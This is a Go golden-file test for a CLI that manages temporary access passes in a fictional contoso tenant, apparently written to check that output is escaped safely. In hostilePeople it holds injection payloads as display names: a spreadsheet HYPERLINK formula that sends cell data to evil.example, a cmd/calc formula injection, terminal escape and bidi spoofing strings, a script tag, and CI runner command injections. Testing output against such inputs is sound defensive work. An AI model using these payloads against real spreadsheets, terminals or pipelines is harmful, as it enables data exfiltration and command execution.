package pass

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/seed-5ddf9a5e/tap/pkg/errs"
	"github.com/seed-5ddf9a5e/tap/pkg/output"
	"github.com/seed-5ddf9a5e/tap/pkg/pass"
	"github.com/seed-5ddf9a5e/tap/pkg/person"
)

const (
	goldens = "../../../testdata/golden"
	rewrite = "go test ./pkg/cmd/pass -run TestGolden -update"
)

// goldenCase is some command lines, and the tenant that they meet. Its files are NAME.FORMAT.txt, for tables
// NAME.table.COLUMNS.txt and NAME.table.80.colour.txt. Each line meets a tenant of its own.
type goldenCase struct {
	name   string
	lines  []string
	tenant func() tenant
	value  []string // the lines for -o value, where the bare value is not one of these
}

// TestGolden holds every command's output, in every format and at three widths, against the files in testdata/golden.
// A file holds what a shell shows of each line: stdout, stderr, and the exit code where it is not 0.
func TestGolden(t *testing.T) {
	t.Parallel()
	g := goldenFiles{}
	for _, c := range goldenCases() {
		for _, columns := range []int{60, 80, 200} {
			s := session{tty: true, columns: columns}
			g.check(t, fmt.Sprintf("%s.table.%d", c.name, columns), c.transcript(t, s, output.Table))
		}
		g.check(t, c.name+".table.80.colour", c.transcript(t, session{tty: true, columns: 80, colour: true}, output.Table))
		for _, f := range output.Formats()[1:] {
			g.check(t, c.name+"."+string(f), c.transcript(t, session{columns: 80}, f))
		}
	}
	g.orphans(t, func(name string) bool {
		command, _, _ := strings.Cut(name, ".")
		return slices.Contains([]string{"create", "list", "delete"}, command)
	})
}

func (c goldenCase) transcript(t *testing.T, s session, f output.Format) string {
	t.Helper()
	var b strings.Builder
	lines := c.lines
	if f == output.Value && c.value != nil {
		lines = c.value
	}
	for _, line := range lines {
		if f != output.Table {
			line += " -o " + string(f)
		}
		r := run(t, s, c.tenant(), split(line+" --tz UTC --no-input")...)
		fmt.Fprintf(&b, "$ tap %s\n%s", line, r.stdout)
		if r.stderr != "" {
			fmt.Fprintf(&b, "-- stderr --\n%s", r.stderr)
		}
		if r.exit != 0 {
			fmt.Fprintf(&b, "-- exit %d --\n", r.exit)
		}
	}
	return b.String()
}

func goldenCases() []goldenCase {
	people := func() tenant { ts, adele, _, _ := peopled(); adele.held = usable(); return ts }
	free := func() tenant { ts, _, _, _ := peopled(); return ts }
	const (
		guest, later, old, spent, off, odd = "maria@contoso.com", "lee@contoso.com", "alex@contoso.com", "megan@contoso.com", "joni@contoso.com", "diego@contoso.com"
		busy                               = "lynne@contoso.com"
	)
	several := strings.Join([]string{a, n, e, guest, busy, bob}, " ")
	all := strings.Join([]string{a, n, later, old, spent, off, odd, busy, bob}, " ")
	strange := make([]string, 0, 30)
	var named []string
	for _, h := range hostilePeople() {
		strange = append(strange, h.ID)
		named = append(named, "create "+h.ID)
	}
	onlyValue := func(command, columns string) []string { return []string{command + " --columns " + columns} }
	const created, plan = "userPrincipalName,displayName,outcome,temporaryAccessPass,error", "userPrincipalName,displayName,outcome,error"
	const listed = "userPrincipalName,displayName,state,passId"
	return []goldenCase{
		{"create.one", []string{"create " + a}, free, nil},
		{"create.one_later", []string{`create ` + a + ` --one-time --start "tomorrow 08:00" --until "tomorrow 10:00"`}, free, nil},
		{"create.refused", []string{"create " + a}, people, nil},
		{"create.skipped", []string{"create " + a + " --if-exists skip"}, people, nil},
		{"create.many", []string{"create " + several}, people, onlyValue("create "+several, created)},
		{"create.many_skipped", []string{"create " + a + " " + n + " --if-exists skip"}, people, onlyValue("create "+a+" "+n+" --if-exists skip", created)},
		{"create.plan", []string{"create " + several + " --dry-run"}, people, onlyValue("create "+several+" --dry-run", plan)},
		{"create.hostile", []string{"create " + strings.Join(strange, " ")}, strangers, onlyValue("create "+strings.Join(strange, " "), created)},
		{"create.hostile_cards", named, strangers, nil},
		{"list.one", []string{"list " + a}, people, onlyValue("list "+a, listed)},
		{"list.many", []string{"list " + all}, people, onlyValue("list "+all, listed)},
		{"list.none", []string{"list " + a + " " + n}, free, onlyValue("list "+a+" "+n, listed)},
		{"list.hostile", []string{"list " + strings.Join(strange, " ")}, holders, onlyValue("list "+strings.Join(strange, " "), listed)},
		{"list.hostile_none", []string{"list " + strings.Join(strange, " ")}, strangers, onlyValue("list "+strings.Join(strange, " "), listed)},
		{"delete.one", []string{"delete " + a + " --yes"}, people, onlyValue("delete "+a+" --yes", plan)},
		{"delete.many", []string{"delete " + all + " --yes"}, people, onlyValue("delete "+all+" --yes", plan)},
		{"delete.none", []string{"delete " + n + " --yes"}, people, onlyValue("delete "+n+" --yes", plan)},
		{"delete.plan", []string{"delete " + all + " --dry-run"}, people, onlyValue("delete "+all+" --dry-run", plan)},
		{"delete.hostile", []string{"delete " + strings.Join(strange, " ") + " --yes"}, holders, onlyValue("delete "+strings.Join(strange, " ")+" --yes", plan)},
	}
}

// peopled is contoso with a pass in every state, a guest, and somebody whom the service has no time for.
func peopled() (ts tenant, adele, nils, eve *account) {
	ts, adele, nils, eve = contoso()
	refused := &errs.Error{Slug: errs.Rejected, Reason: errs.ExternalGuest, Why: "an external guest holds no pass: the home tenant issues one", RequestID: "r-400"}
	throttled := &errs.Error{Slug: errs.Busy, Why: "the service is throttled: 10 of 10 tries were refused", RequestID: "r-429"}
	add := func(alias, name string, held *pass.Pass, err error) {
		id := fmt.Sprintf("%08d-7b3e-4f0e-8d7a-0b2f6d1c9e44", len(ts))
		ts = append(ts, &account{Person: person.Person{ID: id, UserPrincipalName: alias + "@contoso.com", DisplayName: name}, held: held, err: err, code: "abc+&=!$%@-#*?"})
	}
	hours := func(from, to int, once bool) *pass.Pass {
		start := now.Add(time.Duration(from) * time.Hour)
		return &pass.Pass{ID: "e3d1ae4d-55c0-4bc5-b8a8-3c1f4b1c0f6a", Created: now.AddDate(0, 0, -1), Start: start, Lifetime: time.Duration(to-from) * time.Hour, OneTime: once}
	}
	used, off, odd := hours(-1, 7, true), hours(-1, 719, false), hours(0, 0, false)
	used.LastUsed, off.Usability, odd.Start, odd.Created = now.Add(-30*time.Minute), "DisabledByPolicy", time.Time{}, time.Time{}
	add("maria", "Maria Fabrikam", nil, refused)
	add("lee", "Lee Gu", hours(22, 24, true), nil)
	add("alex", "Alex Wilber", hours(-30, -6, false), nil)
	add("megan", "Megan Bowen", used, nil)
	add("joni", "Joni Sherman", off, nil)
	add("diego", "Diego Siciliani", odd, nil)
	add("lynne", "Lynne Robbins", nil, throttled)
	return ts, adele, nils, eve
}

// hostilePeople are names that other things than people read, and others that are hard to lay out.
func hostilePeople() []person.Person {
	var out []person.Person
	for _, h := range []struct{ upn, name string }{
		{"formula.one@contoso.com", `=HYPERLINK("http://evil.example/?x="&A1,"Click me")`},
		{"formula.two@contoso.com", "@SUM(1+1)*cmd|' /C calc'!A0"},
		{"-dash@contoso.com", "-2+3"},
		{"terminal.escape@contoso.com", "Eve \x1b[2J\x1b]0;owned\x07\x1b[31mRed\x1b[0m\u009b1A"},
		{"terminal.bidi@contoso.com", "Eve \u202etxt.exe\u202c \u2066x\u2069"},
		{"terminal.zero@contoso.com", "Adm\u200bin\ufeff\u00ad Zero\u2060"},
		{"terminal.lines@contoso.com", "Eve\nadele@contoso.com  created\tx\u2028y\u0085z"},
		{"markup.script@contoso.com", `<script>alert("contoso")</script>&amp;`},
		{"runner.github@contoso.com", "::set-output name=passcode::x"},
		{"runner.azure@contoso.com", "##vso[task.setvariable variable=x]y ##[error]z"},
		{"yamada.taro@contoso.com", "山田 太郎"},
		{"party.parrot@contoso.com", "Polly 🦜 Parrot 👩‍🚀"},
		{"fatima.alzahra@contoso.com", "فاطمة الزهراء"},
		{"zalgo@contoso.com", "Z\u0337a\u0337l\u0337go e\u0301"},
		{"miles.o'brien@contoso.com", "Miles O'Brien"},
		{strings.Repeat("wolfeschlegelstein.", 3) + "berger1@" + strings.Repeat("hausen-", 4) + "dorf.contoso.com", strings.Repeat("Wolfeschlegelsteinhausen ", 10) + "Berger"},
	} {
		out = append(out, person.Person{ID: fmt.Sprintf("%08d-0000-4000-8000-0000000000ff", len(out)), UserPrincipalName: h.upn, DisplayName: h.name})
	}
	return out
}

// strangers is a tenant of hostile people whose passcodes are hostile, too: the last one has the longest there is.
func strangers() (ts tenant) {
	codes := []string{"=1+1#%$?", "@SUM-A1$", "-2+3*#&!", "+drkzqAD", "1e3456e7", "#%20&%22", "$(x)*?!#"}
	for i, p := range hostilePeople() {
		ts = append(ts, &account{Person: p, code: codes[i%len(codes)]})
	}
	ts[len(ts)-1].code = strings.Repeat("Wolf+&=!", 6)
	return ts
}

func holders() tenant {
	ts := strangers()
	for _, a := range ts {
		a.held = usable()
	}
	return ts
}

// goldenFiles are the files that the cases of a test write.
type goldenFiles map[string]bool

// check holds text against a file, or writes it there with -update.
func (g goldenFiles) check(t *testing.T, name, text string) {
	t.Helper()
	name += ".txt"
	if g[name] {
		t.Errorf("two cases write %s", name)
	}
	g[name] = true
	path := filepath.Join(goldens, name)
	if *update {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Errorf("%v: run `%s` and look at it", err, rewrite)
	} else if diff := cmp.Diff(string(want), text); diff != "" {
		t.Errorf("%s (-want +got), written by `%s`:\n%s", name, rewrite, diff)
	}
}

// orphans finds files that are this test's and that no case writes.
func (g goldenFiles) orphans(t *testing.T, mine func(name string) bool) {
	t.Helper()
	entries, err := os.ReadDir(goldens)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if name := e.Name(); !g[name] && !strings.HasPrefix(name, ".") && mine(name) {
			t.Errorf("no case writes %s: remove it", filepath.Join(goldens, name))
		}
	}
}
